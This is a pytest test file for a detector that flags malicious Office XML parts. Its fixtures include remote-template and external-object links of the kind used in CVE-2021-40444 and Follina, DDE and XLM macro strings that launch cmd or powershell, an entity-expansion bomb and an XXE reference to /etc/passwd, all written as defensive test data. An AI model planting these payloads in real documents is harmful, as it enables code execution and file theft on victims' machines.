"""XML of Office documents: what it loads from elsewhere and what it runs, however it is written."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from plugins._formats.office.links import is_remote
from plugins.workers.ooxml import Ooxml
from stoq_core.testing import make, run

TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relationship(target: str, kind: str = "attachedTemplate", mode: str = "External") -> str:
    """A part with one relationship."""
    return f'<?xml version="1.0"?><Relationships><Relationship Id="r" Type="{TYPE}{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


def found(text: str | bytes) -> set[str]:
    """The findings on a part."""
    content = text.encode() if isinstance(text, str) else text
    return {finding.name for finding in run(make(Ooxml), content).findings}


@pytest.mark.parametrize(
    "text",
    [
        relationship("http://198.51.100.7/t.dotm"),
        relationship("http://198.51.100.7/t.dotm").replace('"', "'"),
        relationship("&#x68;ttp://e.example/t.dotm"),
        relationship("\\\\203.0.113.5\\s\\t.dotm"),
        relationship("file://e.example/s/t.dotm"),
        relationship("\\\\server@80\\DavWWWRoot\\t.dotm"),
        relationship("https://e.example/t").encode("utf-16"),
        relationship("https://e.example/t").replace("Relationship ", "x:Relationship ").replace("<Relationships>", '<Relationships xmlns:x="y">'),
        relationship("https://e.example/t").replace("External", "external"),
        '<w:settings xmlns:w="x"><w:attachedTemplate w:val="http://e.example/t.dot"/></w:settings>',
        '<pkg:package xmlns:pkg="x"><pkg:part><pkg:xmlData>' + relationship("http://e.example/t").partition("?>")[2] + "</pkg:xmlData></pkg:part></pkg:package>",
    ],
)  # fmt: skip
def test_remote_templates(text: str | bytes) -> None:
    """Either quote, entities, prefixes, encodings, flat OPC: one parser reads them all."""
    assert found(text) == {"ooxml_remote_template"}


@pytest.mark.parametrize(
    "target",
    ["file:///C:\\Users\\bob\\Letter.dotx", "file:///g:\\t.dotx", "\\\\fileserver\\templates\\Letter.dotx", "Normal.dotm", "file:///C:/t.dotm"],
)  # fmt: skip
def test_templates_of_the_own_site_are_nothing_to_tell(target: str) -> None:
    """A disk, a relative name, a server without a domain."""
    assert found(relationship(target)) == set()
    assert not is_remote(target)


def test_internal_targets_and_hyperlinks_are_nothing_to_tell() -> None:
    """Links are clicked, not loaded."""
    assert found(relationship("http://e.example/t", mode="Internal")) == set()
    assert found(relationship("http://e.example/t", kind="hyperlink")) == set()


@pytest.mark.parametrize(
    "target", ["mhtml:http://e.example/a.html!x-usc:http://e.example/a.html", "https://e.example/a.html!", "\\\\1.2.3.4\\a"]
)  # fmt: skip
def test_external_objects(target: str) -> None:
    """CVE-2021-40444 and CVE-2022-30190 came so."""
    assert found(relationship(target, kind="oleObject")) == {"ooxml_external_object"}


@pytest.mark.parametrize(
    ("text", "finding"),
    [
        ('<x><ddeLink ddeService="cmd" ddeTopic="/c calc"/></x>', "office_dde_command"),
        ("<w:p xmlns:w='x'><w:instrText>DDE </w:instrText><w:instrText>{ REF x }</w:instrText></w:p>", "office_dde_field"),
        ("<w:p xmlns:w='x'><w:instrText>D</w:instrText><w:instrText>DEAU</w:instrText><w:instrText>TO c:\\cmd.exe</w:instrText></w:p>", "office_dde_command"),
        ('<w:p xmlns:w="x"><w:fldSimple w:instr="DDE powershell x"/></w:p>', "office_dde_command"),
        ('<w:p xmlns:w="x"><w:instrText>INCLUDEPICTURE "http://e.example/a.png" \\d</w:instrText></w:p>', "document_web_bug"),
        ('<office:dde-source xmlns:office="x" office:dde-application="cmd" office:dde-topic="/c x"/>', "office_dde_command"),
        ('<customUI onLoad="http://e.example/a.xlam!run"/>', "ooxml_ribbon_from_elsewhere"),
        ("<workbook><definedName name='_xlnm.Auto_Open'>M!$A$1</definedName></workbook>", "xlm_macro_opens_by_itself"),
        ('<xm:macrosheet xmlns:xm="x"><f>EXEC("cmd /c calc")</f></xm:macrosheet>', "xlm_macro_runs_program"),
        ('<xm:macrosheet xmlns:xm="x"><f>HALT()</f></xm:macrosheet>', "xlm_macro_sheet"),
    ],
)  # fmt: skip
def test_fields_links_and_macros(text: str, finding: str) -> None:
    """Fields are joined over their runs; services that are no program's weigh less."""
    assert finding in found(text)


@pytest.mark.parametrize(
    "text",
    ['<x><ddeLink ddeService="Reuters" ddeTopic="quote"/></x>', "<w:p xmlns:w='x'><w:instrText>PAGE</w:instrText></w:p>", "<x><f>EXEC(1)</f></x>", "<p>DDE and cmd in prose</p>", "<customUI onLoad='Ribbon_Load'/>", "<definedName name='Print_Area'>x</definedName>"],
)  # fmt: skip
def test_ordinary_parts(text: str) -> None:
    """Page numbers, formulas of ordinary sheets, prose, ribbons of one's own."""
    assert found(text) == set()


def test_entities_are_bounded_and_none_is_fetched() -> None:
    """A bomb ends the parse, an external entity is not read; what stood before them counts."""
    bomb = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
        f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(12)
    )
    text = bomb + "]><x><ddeLink ddeService='cmd' ddeTopic='/c'/><f>&m;</f></x>"
    assert found(text) <= {"office_dde_command"}
    assert found('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x><f>&a;</f></x>') == set()


def test_truncated_parts_give_what_stands_before_the_end() -> None:
    """A part that is cut is read as far as it goes."""
    text = "<x>" + relationship("http://e.example/t").partition("?>")[2][:-10]
    assert found(text) == {"ooxml_remote_template"}


@given(
    st.binary(max_size=400) | st.text(alphabet="<>/&;! x\"'=[]fRelationship", max_size=200).map(str.encode)
)
def test_any_bytes_end_in_emits(content: bytes) -> None:
    """Nothing but emits comes of arbitrary bytes."""
    assert run(make(Ooxml), content).error is None
